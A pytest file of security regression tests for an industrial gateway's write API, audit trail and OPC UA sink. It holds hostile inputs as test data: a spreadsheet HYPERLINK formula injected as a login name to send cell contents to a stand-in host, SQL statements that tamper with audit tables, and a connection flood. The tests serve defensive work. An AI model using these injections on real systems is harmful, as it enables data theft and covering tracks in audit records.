"""Hostile review of issue 13 (trust and control): each test is a defect the review found.

Every test here runs over real transports (loopback TCP to the gateway's HTTP endpoint, the
emulated Modbus feed pump, a real subprocess for ``patgw``) and failed on the reviewed code
(trust13 at ad45406, where each was a strict xfail naming the defect); all are fixed.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import io
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from conftest import free_port, plan_for, running, wait_for
from test_controlled_writes import (
    PASSWORDS,
    TARGET,
    _config,
    api_call,
    audit_records,
)

from gateway.loader import Plan
from gateway.runtime.supervisor import Gateway


def _setpoint(plan: Plan) -> float:
    return float(plan.emulators[0].instance.emulator.model.setpoint_rpm)


def _request(body: dict[str, Any], user: str = "operator", password: str | None = None) -> bytes:
    data = json.dumps(body).encode()
    secret = PASSWORDS[user] if password is None else password
    token = base64.b64encode(f"{user}:{secret}".encode()).decode()
    head = (
        "POST /api/v1/writes HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Authorization: Basic {token}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(data)}\r\n\r\n"
    )
    return head.encode() + data


async def _connected(plan: Plan, gateway: Gateway) -> None:
    runner = gateway.runners[0]
    await wait_for(lambda: runner.state.value == "connected", 10, what="the pump connected")


def _open_connections(gateway: Gateway) -> int:
    """patgw_http_connections_open, as /metrics reports it (counting this request's own)."""
    assert gateway.http_address is not None
    with socket.create_connection(gateway.http_address, timeout=10) as sock:
        sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    for line in data.decode().splitlines():
        if line.startswith("patgw_http_connections_open "):
            return int(float(line.split()[1]))
    raise AssertionError("no patgw_http_connections_open in /metrics")


async def _until(condition: Any, within: float) -> None:
    """Wait for ``condition`` up to ``within`` seconds; the caller asserts it afterwards."""
    with contextlib.suppress(pytest.fail.Exception):
        await wait_for(condition, within)


def _write_story(plan: Plan) -> list[str]:
    return [r["action"] for r in audit_records(plan) if r["action"].startswith("write.")]


# -- 1. A write in progress is cancelled with its HTTP connection ----------------------------


@pytest.mark.asyncio
async def test_connection_eviction_does_not_cut_a_write_out_of_the_audit_trail(
    tmp_path: Path,
) -> None:
    from gateway.http import MAX_CONNECTIONS

    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port, readback_delay_s=2.0))
    idle: list[socket.socket] = []
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        assert gateway.http_address is not None
        writer_sock = socket.create_connection(gateway.http_address, timeout=30)
        try:
            # The write's connection is the oldest; the others send nothing (a slow peer).
            for _ in range(MAX_CONNECTIONS - 2):
                idle.append(socket.create_connection(gateway.http_address, timeout=30))
            opened = await asyncio.to_thread(_open_connections, gateway)
            assert opened == MAX_CONNECTIONS, opened
            writer_sock.sendall(_request({"target": TARGET, "value": 5, "reason": "raise"}))
            await wait_for(lambda: _setpoint(plan) == 5, 10, what="the pump moved")
            # The write now waits for its read-back; a hostile peer opens two connections.
            for _ in range(2):
                idle.append(socket.create_connection(gateway.http_address, timeout=30))
            # Whatever the client is told, the write must finish and be audited.
            await _until(lambda: "write.read_back" in _write_story(plan), 10)
            assert "write.read_back" in _write_story(plan), _write_story(plan)
        finally:
            writer_sock.close()
            for sock in idle:
                sock.close()
    story = _write_story(plan)
    assert story[-1] == "write.read_back", story


# -- 2. A write during stop -------------------------------------------------------------------


@pytest.mark.asyncio
async def test_a_write_during_stop_is_finished_or_its_outcome_audited(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port, readback_delay_s=2.0))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        call = asyncio.create_task(
            asyncio.to_thread(
                _raw_call, http_port, _request({"target": TARGET, "value": 5, "reason": "r"})
            ),
            name="test.write",
        )
        await wait_for(lambda: _setpoint(plan) == 5, 10, what="the pump moved")
        # ...and the operator stops the gateway while the write waits for its read-back.
    await call
    story = _write_story(plan)
    assert story[:2] == ["write.requested", "write.executed"], story
    assert story[-1] in ("write.read_back", "write.failed"), story


def _raw_call(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(request)
        data = b""
        try:
            while chunk := sock.recv(65536):
                data += chunk
        except OSError:
            pass
        return data


# -- 3. patgw write hands the password to an HTTP proxy ---------------------------------------


class _Proxy:
    """A loopback listener standing in for a plant's HTTP proxy: records what it is sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = b""
        self._thread = threading.Thread(target=self._serve, name="test.proxy", daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.server.accept()
        except OSError:
            return
        with conn:
            conn.settimeout(10)
            try:
                while b"\r\n\r\n" not in self.received:
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    self.received += chunk
                conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass

    def close(self) -> None:
        self.server.close()
        self._thread.join(10)


@pytest.mark.asyncio
async def test_patgw_write_never_sends_the_password_to_a_proxy(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    proxy = _Proxy()
    env = {k: v for k, v in os.environ.items() if k.lower() not in ("no_proxy",)}
    env["http_proxy"] = env["HTTP_PROXY"] = f"http://127.0.0.1:{proxy.port}"
    try:
        async with running(plan) as (gateway, _):
            await _connected(plan, gateway)
            result = await asyncio.to_thread(
                subprocess.run,
                [
                    sys.executable,
                    "-m",
                    "gateway",
                    "write",
                    str(plan.source),
                    TARGET,
                    "5",
                    "--user",
                    "operator",
                    "--reason",
                    "proxy test",
                ],
                input=PASSWORDS["operator"] + "\n",
                capture_output=True,
                text=True,
                timeout=60,
                check=False,
                env=env,
            )
    finally:
        proxy.close()
    secret = base64.b64encode(f"operator:{PASSWORDS['operator']}".encode())
    assert secret not in proxy.received, proxy.received[:300]
    assert result.returncode == 0, result.stderr
    assert _setpoint(plan) == 5


# -- 4. CSV export: formula injection through a login name -----------------------------------


@pytest.mark.asyncio
async def test_audit_csv_export_defuses_formulas_from_unauthenticated_names(
    tmp_path: Path,
) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    evil = '=HYPERLINK("//x.invalid/"&A1,"ok")'  # no colon: Basic splits there
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        status, _ = await asyncio.to_thread(
            api_call, http_port, "GET", "/api/v1/whoami", evil, "guess"
        )
        assert status == 401
        await wait_for(
            lambda: any(r["user"] == evil for r in audit_records(plan)),
            10,
            what="the failed login audited",
        )
    result = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "gateway", "audit", "export", str(plan.source), "--format", "csv"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    users = [row["user"] for row in rows if evil in row["user"]]
    assert users, "the failed login is not in the export"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in users), users


# -- 5. Values JSON cannot hold: refused, but not audited -------------------------------------


@pytest.mark.parametrize("value", ["NaN", "Infinity", "1e400"])
@pytest.mark.asyncio
async def test_a_refused_non_finite_write_is_audited(tmp_path: Path, value: str) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    body = f'{{"target": "{TARGET}", "value": {value}, "reason": "probe"}}'.encode()
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        answer = await asyncio.to_thread(_raw_call, http_port, _request_raw(body))
    status = int(answer.split(b" ", 2)[1])
    assert status in (400, 422), answer[:200]
    assert _setpoint(plan) == 2
    if status == 422:  # handed to the write path: then its refusal is on record
        assert "write.refused" in _write_story(plan), _write_story(plan)


@pytest.mark.asyncio
async def test_a_huge_integer_value_gets_a_clear_refusal(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    body = f'{{"target": "{TARGET}", "value": 1{"0" * 400}, "reason": "probe"}}'.encode()
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        answer = await asyncio.to_thread(_raw_call, http_port, _request_raw(body))
    status = int(answer.split(b" ", 2)[1])
    assert status in (400, 422), answer[:200]
    assert _setpoint(plan) == 2


def _request_raw(body: bytes, user: str = "operator") -> bytes:
    token = base64.b64encode(f"{user}:{PASSWORDS[user]}".encode()).decode()
    head = (
        "POST /api/v1/writes HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Authorization: Basic {token}\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


# -- 6. Text the trail cannot encode ----------------------------------------------------------


@pytest.mark.parametrize("field", ["target", "reason"])
@pytest.mark.asyncio
async def test_text_with_a_lone_surrogate_is_refused_or_audited(tmp_path: Path, field: str) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    document = {"target": TARGET, "value": 3, "reason": "probe"}
    document[field] = "x\\ud800y"
    body = json.dumps(document).replace("\\\\ud800", "\\ud800").encode()
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        answer = await asyncio.to_thread(_raw_call, http_port, _request_raw(body, "viewer"))
    status = int(answer.split(b" ", 2)[1])
    assert _setpoint(plan) == 2
    if status != 400:  # not refused as bad input: then the refusal is on record
        assert "write.refused" in _write_story(plan), answer[-300:]


# -- 7. OPC UA: refused writes leave no audit record ------------------------------------------


def _ua_config(tmp_path: Path) -> dict[str, Any]:
    from conftest import pump_instrument
    from test_controlled_writes import HASHES

    pump_port = free_port()
    return {
        "emulators": [
            {"id": "pump", "type": "feed_pump", "options": {"port": pump_port, "setpoint_rpm": 2}}
        ],
        "instruments": [pump_instrument("pump", pump_port)],
        "sinks": [{"id": "ua", "type": "opcua_server", "options": {"port": free_port()}}],
        "security": {
            "users": [
                {"name": name, "password_hash": HASHES[name], "roles": [name]} for name in PASSWORDS
            ]
        },
        "writes": [{"target": TARGET, "min": 0, "max": 10, "max_step": 5}],
    }


@pytest.mark.parametrize(
    ("user", "node", "value"),
    [
        ("viewer", TARGET, 4.0),
        ("operator", "reactor1/pump/flow", 1.0),
        ("operator", TARGET, "five"),
    ],
)
@pytest.mark.asyncio
async def test_writes_refused_over_opcua_are_audited(
    tmp_path: Path, user: str, node: str, value: Any
) -> None:
    from asyncua import ua
    from test_opcua_server_writes import Bench as UaBench

    from plugins.opcua_server.sink import OpcUaServerSink

    plan = plan_for(tmp_path, **_ua_config(tmp_path))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        sink = plan.sinks[0].instance
        assert isinstance(sink, OpcUaServerSink)
        bench = UaBench(plan, sink, tmp_path)
        kind = ua.VariantType.String if isinstance(value, str) else ua.VariantType.Double
        status = await bench.write(user, node, ua.Variant(value, kind))
        assert status != 0  # refused (the status code says why)
        assert _setpoint(plan) == 2
        await wait_for(
            lambda: any(r["action"] == "login" for r in audit_records(plan)),
            10,
            what="the login audited",
        )
    story = _write_story(plan)
    assert story == ["write.refused"], story


# -- 8. Two targets on one device channel -----------------------------------------------------


@pytest.mark.asyncio
async def test_two_targets_on_one_channel_cannot_bypass_the_rate_limit(tmp_path: Path) -> None:
    from gateway.errors import GatewayError

    http_port = free_port()
    config = _config(tmp_path, free_port(), http_port, max_rate_per_s=0.01)
    config["instruments"][0]["signals"] = [
        {"id": "speed_setpoint", "unit": "{rev}/min"},
        {"id": "speed_setpoint_b", "channel": "speed_setpoint", "unit": "{rev}/min"},
    ]
    second = dict(config["writes"][0], target="reactor1/pump/speed_setpoint_b")
    config["writes"].append(second)
    try:
        plan = plan_for(tmp_path, **config)
    except GatewayError as exc:  # refused with a clear message: fine
        refusal = str(exc)
    else:
        refusal = ""
    if refusal:
        assert "speed_setpoint" in refusal
        return
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        first = await asyncio.to_thread(
            api_call,
            http_port,
            "POST",
            "/api/v1/writes",
            "operator",
            PASSWORDS["operator"],
            {"target": TARGET, "value": 3, "reason": "one"},
        )
        assert first[0] == 200, first
        # A change of 1 at 0.01/s needs 100 s: the same channel, through the other target.
        status, outcome = await asyncio.to_thread(
            api_call,
            http_port,
            "POST",
            "/api/v1/writes",
            "operator",
            PASSWORDS["operator"],
            {"target": second["target"], "value": 4, "reason": "two"},
        )
    assert status == 422 and outcome["rule"] == "rate", outcome
    assert _setpoint(plan) == 3


# -- 9. A torn anchor line swallows the next anchor -------------------------------------------


@pytest.mark.asyncio
async def test_an_anchor_appended_after_a_torn_line_stays_readable(tmp_path: Path) -> None:
    from gateway.audit import read_records
    from gateway.audit.anchors import read_anchor_file

    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), free_port()))
    paths = plan.config.audit.resolved(plan.config.store.path, plan.config.data_dir)
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
    lines = paths.anchor_file.read_bytes().splitlines(keepends=True)
    assert lines, "the stop signs the head"
    # What a crash mid-append leaves: the start of a line, unsynced rest lost.
    with paths.anchor_file.open("ab") as out:
        out.write(lines[-1][: len(lines[-1]) // 2])
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), free_port()))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
    head = max(record.seq for record in read_records(paths.path))
    anchors, _damaged = read_anchor_file(paths.anchor_file)
    assert any(anchor.seq == head for _, anchor in anchors), _damaged


# -- 10. patgw write over HTTPS with a certificate a CA issued --------------------------------


@pytest.mark.asyncio
async def test_patgw_write_over_https_with_a_ca_issued_certificate(tmp_path: Path) -> None:
    from mosquitto import make_broker_tls

    tls = make_broker_tls(tmp_path / "tls")
    http_port = free_port()
    config = _config(tmp_path, free_port(), http_port)
    config["http"]["tls"] = {"certificate": str(tls.cert), "private_key": str(tls.key)}
    plan = plan_for(tmp_path, **config)
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        result = await asyncio.to_thread(
            subprocess.run,
            [
                sys.executable,
                "-m",
                "gateway",
                "write",
                str(plan.source),
                TARGET,
                "5",
                "--user",
                "operator",
                "--reason",
                "over https",
            ],
            input=PASSWORDS["operator"] + "\n",
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    assert result.returncode == 0, result.stderr
    assert _setpoint(plan) == 5


# -- 11. HTTP parsing -------------------------------------------------------------------------


@pytest.mark.asyncio
async def test_a_content_length_of_unicode_digits_is_a_bad_request(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    request = b"POST /api/v1/writes HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: \xb2\r\n\r\n{}"
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        answer = await asyncio.to_thread(_raw_call, http_port, request)
    assert answer.startswith(b"HTTP/1.1 400 "), answer[:100]


# -- 12. Lock-out tells which user names exist ------------------------------------------------


@pytest.mark.asyncio
async def test_lock_out_does_not_reveal_which_user_names_exist(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    answers: dict[str, dict[str, Any]] = {}
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        failures = plan.config.security.lockout
        assert failures is not None
        for name in ("operator", "nobody-here"):
            for _ in range(failures.max_failures + 1):
                status, answers[name] = await asyncio.to_thread(
                    api_call, http_port, "GET", "/api/v1/whoami", name, "wrong guess"
                )
                assert status == 401
    # The same treatment must give the same answer, whoever the name is.
    known, unknown = answers["operator"]["error"], answers["nobody-here"]["error"]
    assert known.replace("operator", "X") == unknown.replace("nobody-here", "X"), (known, unknown)


# -- 13. Nobody can unlock a locked-out user --------------------------------------------------


@pytest.mark.asyncio
async def test_an_admin_can_unlock_a_locked_out_user_over_the_api(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        failures = plan.config.security.lockout
        assert failures is not None
        for _ in range(failures.max_failures):
            await asyncio.to_thread(
                api_call, http_port, "GET", "/api/v1/whoami", "operator", "wrong guess"
            )
        status, answer = await asyncio.to_thread(
            api_call, http_port, "GET", "/api/v1/whoami", "operator", PASSWORDS["operator"]
        )
        assert status == 401 and "locked out" in answer["error"]
        # The API names its routes when asked for one it does not have.
        status, answer = await asyncio.to_thread(
            api_call, http_port, "GET", "/api/v1/", "admin", PASSWORDS["admin"]
        )
    assert "unlock" in answer.get("error", ""), answer


@pytest.mark.asyncio
async def test_the_audit_trail_is_readable_through_the_api_by_the_audit_permission(
    tmp_path: Path,
) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        status, answer = await asyncio.to_thread(
            api_call, http_port, "GET", "/api/v1/", "admin", PASSWORDS["admin"]
        )
    assert status == 404
    assert "audit" in answer.get("error", ""), answer


# -- 14. A write before the gateway has started ------------------------------------------------


@pytest.mark.asyncio
async def test_a_write_while_the_gateway_starts_gets_a_clear_refusal(tmp_path: Path) -> None:
    from gateway.runtime.supervisor import Gateway as RunningGateway

    http_port = free_port()
    config = _ua_config(tmp_path)
    config["http"] = {"host": "127.0.0.1", "port": http_port, "api": True}
    plan = plan_for(tmp_path, **config)
    gateway = RunningGateway(plan)
    stop = asyncio.Event()
    run = asyncio.create_task(gateway.run(stop), name="test.gateway")
    body = {"target": TARGET, "value": 3, "reason": "early"}
    answers: list[int] = []
    try:
        await wait_for(lambda: gateway.http_address is not None or run.done(), 20, what="http")
        # The OPC UA server sink starts after the HTTP endpoint (it makes its certificate).
        while not gateway.started.is_set() and not run.done():
            raw = await asyncio.to_thread(_raw_call, http_port, _request(body))
            answers.append(int(raw.split(b" ", 2)[1]))
    finally:
        stop.set()
        await run
    assert answers, "no request before the start"
    assert 500 not in answers, answers


# -- 15. The kept configurations are outside what verify checks -------------------------------


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE audit_configs SET content = CAST('writes: []' AS BLOB)",
        "DELETE FROM audit_configs",
    ],
)
@pytest.mark.asyncio
async def test_verify_detects_a_replaced_or_deleted_kept_configuration(
    tmp_path: Path, statement: str
) -> None:
    from conftest import tamper_audit

    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), free_port()))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
    started = [r for r in audit_records(plan) if r["action"] == "gateway.started"]
    assert started and started[0]["details"]["config_sha256"]
    path = plan.config.audit.resolved(plan.config.store.path, plan.config.data_dir).path

    def patgw_verify() -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "gateway", "audit", "verify", str(plan.source)],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    sound = await asyncio.to_thread(patgw_verify)
    assert sound.returncode == 0, sound.stdout + sound.stderr
    tamper_audit(path, statement)
    tampered = await asyncio.to_thread(patgw_verify)
    assert tampered.returncode == 2, tampered.stdout + tampered.stderr


@pytest.mark.asyncio
async def test_health_does_not_name_locked_out_users(tmp_path: Path) -> None:
    http_port = free_port()
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        failures = plan.config.security.lockout
        assert failures is not None
        for _ in range(failures.max_failures):
            await asyncio.to_thread(
                api_call, http_port, "GET", "/api/v1/whoami", "engineer", "wrong guess"
            )
        health = await asyncio.to_thread(
            _raw_call, http_port, b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        )
    assert b'"writes"' in health, health[:300]
    assert b"engineer" not in health, health[-400:]


# -- 16. patgw write gives up before the gateway does ------------------------------------------


@pytest.mark.asyncio
async def test_patgw_write_waits_for_a_slow_read_back_it_allows(tmp_path: Path) -> None:
    from gateway.writecli import TIMEOUT_S

    http_port = free_port()
    delay = TIMEOUT_S + 1  # within the config's limit (readback_delay_s <= 60)
    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port, readback_delay_s=delay))
    async with running(plan) as (gateway, _):
        await _connected(plan, gateway)
        result = await asyncio.to_thread(
            subprocess.run,
            [
                sys.executable,
                "-m",
                "gateway",
                "write",
                str(plan.source),
                TARGET,
                "5",
                "--user",
                "operator",
                "--reason",
                "slow device",
            ],
            input=PASSWORDS["operator"] + "\n",
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        moved = _setpoint(plan)
    assert moved == 5
    assert result.returncode == 0, result.stderr
